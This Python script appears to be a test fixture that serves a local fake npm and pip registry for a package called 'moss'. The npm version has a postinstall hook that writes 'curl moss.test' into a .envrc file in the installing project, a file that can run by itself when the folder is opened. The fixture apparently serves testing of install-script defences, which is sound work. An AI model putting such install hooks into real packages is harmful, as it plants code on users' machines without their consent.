"""A registry of one package, for npm and for pip: `registry.py ADDRESS PORT`. The package plants a
file in the project that installs it."""
import base64, hashlib, http.server, io, json, sys, tarfile, zipfile

address, port = sys.argv[1], int(sys.argv[2])
MANIFEST = {"name": "moss", "version": "1.0.0", "main": "index.js",
            "scripts": {"postinstall": "echo 'curl moss.test' > \"$INIT_CWD/.envrc\""}}


def tarball():
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz") as tar:
        for name, text in [("package.json", json.dumps(MANIFEST)), ("index.js", "module.exports = 'it grows';\n")]:
            entry = tarfile.TarInfo("package/" + name)
            entry.size = len(text)
            tar.addfile(entry, io.BytesIO(text.encode()))
    return data.getvalue()


def wheel():
    data, info = io.BytesIO(), "moss-1.0.0.dist-info/"
    with zipfile.ZipFile(data, "w") as wheel:
        wheel.writestr("moss.py", "def main(): print('it grows')\n")
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: moss\nVersion: 1.0.0\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(info + "entry_points.txt", "[console_scripts]\nmoss = moss:main\n")
        wheel.writestr(info + "RECORD", "")
    return data.getvalue()


TARBALL, WHEEL = tarball(), "moss-1.0.0-py3-none-any.whl"
dist = {"tarball": f"http://{address}:{port}/moss-1.0.0.tgz",
        "integrity": "sha512-" + base64.b64encode(hashlib.sha512(TARBALL).digest()).decode()}
PAGES = {
    "/moss": ("application/json", json.dumps({
        "name": "moss", "dist-tags": {"latest": "1.0.0"},
        "versions": {"1.0.0": {**MANIFEST, "hasInstallScript": True, "dist": dist}}}).encode()),
    "/moss-1.0.0.tgz": ("application/octet-stream", TARBALL),
    "/simple/moss/": ("text/html", f'<a href="/{WHEEL}">{WHEEL}</a>'.encode()),
    "/" + WHEEL: ("application/octet-stream", wheel()),
}


class Registry(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        kind, body = PAGES.get(self.path, ("text/plain", b"no such package"))
        self.send_response(200 if self.path in PAGES else 404)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


server = http.server.ThreadingHTTPServer((address, port), Registry)
print("serving", flush=True)
server.serve_forever()
